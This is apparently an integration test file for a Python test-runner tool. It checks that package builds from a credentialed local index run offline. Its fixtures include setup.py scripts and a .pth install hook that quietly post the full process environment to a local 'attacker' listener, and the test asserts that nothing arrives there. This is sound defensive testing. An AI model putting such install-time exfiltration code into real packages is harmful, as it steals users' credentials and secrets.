// The dependency step only downloads: against a local PEP 503 index on 127.0.0.1 with credentials
// in PIP_INDEX_URL, an sdist whose setup.py and a wheel whose .pth post their environment to a
// listener get installed, and nothing reaches the listener (the sdist is built, and everything
// installed, with no network and no secret). And a setup.py-only project's runtime requirements,
// named only in its install_requires, are read from its METADATA and installed (a wheel from the
// index, a package from Debian): its suite passes.
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { DockerEngine } from '../../runtime/engine/docker-engine.js';
import { runCli } from '../helpers/cli.js';
import { NO_PIP, envRows, envScratch, listener } from '../helpers/env-repos.js';
import { buildSdist, buildWheel, serveSimpleIndex } from '../helpers/wheels.js';

const engine = new DockerEngine();
const repos = envScratch('piper-env-download-');
afterAll(() => repos.cleanup(engine));

/** Python that posts its whole environment to the listener, and says nothing when it cannot. */
function postEnvironment(port: number, path: string): string {
  return [
    'try:',
    '    import json, os, urllib.request',
    `    urllib.request.urlopen("http://127.0.0.1:${port}${path}", data=json.dumps(dict(os.environ)).encode(), timeout=3)`,
    'except Exception:',
    '    pass',
  ].join('\n');
}

const row0 = (repo: string) => envRows(repo)[0]!;

interface Step {
  name: string;
  network: string;
  exit_code: number;
}

describe('an sdist-only and a .pth-carrying distribution from an index with credentials', () => {
  it('builds and installs them offline: nothing reaches the listener, the suite passes', async () => {
    const attacker = await listener();
    const dir = join(repos.scratch, 'index-files');
    mkdirSync(dir, { recursive: true });
    // leaky only as a dependency of pthy (its sdist found in a second round), solo named directly.
    const sdists: string[] = ['leaky', 'solo'].map((name) =>
      buildSdist(dir, name, '1.0', {
        'setup.py': `${postEnvironment(attacker.port, `/${name}`)}\nfrom setuptools import setup\nsetup(name="${name}", version="1.0", py_modules=["${name}"])\n`,
        [`${name}.py`]: `def where():\n    return "${name} built offline"\n`,
      }),
    );
    // helpme's setup.py imports what its pyproject's build-system names: a wheel, installed offline first.
    const verhelper = buildWheel(dir, 'verhelper', '1.0', { 'verhelper.py': 'VERSION = "1.0"\n' });
    sdists.push(
      buildSdist(dir, 'helpme', '1.0', {
        'pyproject.toml':
          '[build-system]\nrequires = ["setuptools", "verhelper"]\nbuild-backend = "setuptools.build_meta"\n',
        'setup.py': `${postEnvironment(attacker.port, '/helpme')}\nfrom setuptools import setup\nfrom verhelper import VERSION\nsetup(name="helpme", version=VERSION, py_modules=["helpme"])\n`,
        'helpme.py': 'def where():\n    return "helpme built offline"\n',
      }),
    );
    const pthCode = postEnvironment(attacker.port, '/pth');
    const wheel = buildWheel(
      dir,
      'pthy',
      '1.0',
      {
        'pthy.py': 'def answer():\n    return 42\n',
        'pthy_hook.pth': `import sys; exec(${JSON.stringify(pthCode)})\n`,
      },
      ['leaky>=1'],
    );
    const secret = 'S3cret-download-only';
    const index = await serveSimpleIndex([...sdists, wheel, verhelper], { user: 'ci', password: secret });
    const repo = repos.newRepo('sdist-pth', {
      'requirements.txt': 'pthy==1.0\nsolo==1.0\nhelpme==1.0\n',
      'tests/test_it.py':
        'import helpme, leaky, pthy, solo\n\ndef test_all():\n    for m in (helpme, leaky, solo):\n        assert m.where() == f"{m.__name__} built offline"\n    assert pthy.answer() == 42\n',
    });
    try {
      const r = await runCli(['run-test', 'tests/', '--repo', repo, '--json'], {
        env: { ...NO_PIP, PIP_INDEX_URL: index.url },
      });
      expect(r.code, r.stderr.slice(-3000)).toBe(0);
      expect(attacker.requests).toEqual([]);
      // The index was asked, with the credentials, for the wheel and for the sdist's file itself.
      expect(index.requests.some((q) => q.path === '/files/pthy-1.0-py3-none-any.whl' && q.authorized)).toBe(
        true,
      );
      for (const name of ['leaky', 'solo', 'helpme']) {
        expect(index.requests.some((q) => q.path === `/files/${name}-1.0.tar.gz` && q.authorized)).toBe(true);
        expect(row0(repo).sources).toMatch(
          new RegExp(`sdist: ${name}: ${name}-1\\.0\\.tar\\.gz: no wheel; its sdist built offline`),
        );
        const build = (JSON.parse(row0(repo).steps) as Step[]).find(
          (s) => s.name === `build ${name}-1.0.tar.gz`,
        );
        expect(build).toMatchObject({ network: 'none', exit_code: 0 });
      }
      const [row] = envRows(repo);
      expect(row!.status).toBe('built');
      const steps = JSON.parse(row!.steps) as Step[];
      expect(steps.find((s) => s.name === 'install')).toMatchObject({ network: 'none', exit_code: 0 });
      expect(steps.find((s) => s.name === 'build deps (offline)')).toMatchObject({
        network: 'none',
        exit_code: 0,
      });
      expect(index.requests.some((q) => q.path === '/files/verhelper-1.0-py3-none-any.whl')).toBe(true);
      // Every step that ran pip or the sdist fetcher with the credentials had a network and installed nothing.
      for (const s of steps.filter((x) => x.name === 'pip' || x.name.startsWith('fetch ')))
        expect(s.network).not.toBe('none');
      const resolved = JSON.parse(row!.resolved) as Array<{ name: string; version: string }>;
      for (const name of ['leaky', 'solo', 'helpme'])
        expect(resolved).toContainEqual(expect.objectContaining({ name, version: '1.0' }));
      expect(resolved).toContainEqual(expect.objectContaining({ name: 'pthy', version: '1.0' }));
      expect(`${r.stdout}${r.stderr}${row!.steps}`).not.toContain(secret);
    } finally {
      await Promise.all([attacker.close(), index.close()]);
    }
  });
});

describe('a setup.py-only project whose runtime requirements only its install_requires names', () => {
  it('installs them from its METADATA (a wheel from the index, attrs from Debian): its suite passes', async () => {
    const dir = join(repos.scratch, 'topup-files');
    mkdirSync(dir, { recursive: true });
    const tiny = buildWheel(dir, 'tinydep', '1.2', { 'tinydep.py': 'def double(x):\n    return 2 * x\n' });
    const index = await serveSimpleIndex([tiny], { user: 'ci', password: 'S3cret-topup' });
    const repo = repos.newRepo('setup-py-only', {
      'setup.py':
        'from setuptools import setup\nsetup(name="codedeps", version="0.1", py_modules=["codedeps"], install_requires=["attrs", "tinydep>=1", "never-here; python_version < \'3\'"])\n',
      'codedeps.py':
        'import attr\nimport tinydep\n\n@attr.s\nclass Box:\n    x = attr.ib()\n\ndef doubled(x):\n    return Box(tinydep.double(x)).x\n',
      'tests/test_codedeps.py':
        'import codedeps\n\ndef test_doubled():\n    assert codedeps.doubled(21) == 42\n',
    });
    try {
      const plan = await runCli(['env', 'plan', '--json', '--repo', repo], { env: NO_PIP });
      const planned = (JSON.parse(plan.stdout) as { requirements: Array<{ normalized: string }> })
        .requirements;
      // The plan cannot see them (setup.py is never run on the host): only the METADATA says so.
      expect(planned.map((q) => q.normalized)).not.toContain('tinydep');
      expect(planned.map((q) => q.normalized)).not.toContain('attrs');
      const r = await runCli(['run-test', 'tests/', '--repo', repo, '--json'], {
        env: { ...NO_PIP, PIP_INDEX_URL: index.url },
      });
      expect(r.code, r.stderr.slice(-3000)).toBe(0);
      const result = JSON.parse(r.stdout) as { counts: { passed: number; failed: number } };
      expect(result.counts).toMatchObject({ passed: 1, failed: 0 });
      const [row] = envRows(repo);
      expect(row!.sources).toMatch(
        /top-up [0-9a-f]{12}: attrs, tinydep>=1 \(named only in the project's build code\)/,
      );
      expect(row!.sources).toContain('debian: python3-attr');
      const resolved = JSON.parse(row!.resolved) as Array<{ name: string; version: string; source: string }>;
      expect(resolved).toContainEqual({ name: 'tinydep', version: '1.2', source: 'pip' });
      expect(resolved).toContainEqual(expect.objectContaining({ name: 'attrs', source: 'debian' }));
    } finally {
      await index.close();
    }
  });
});
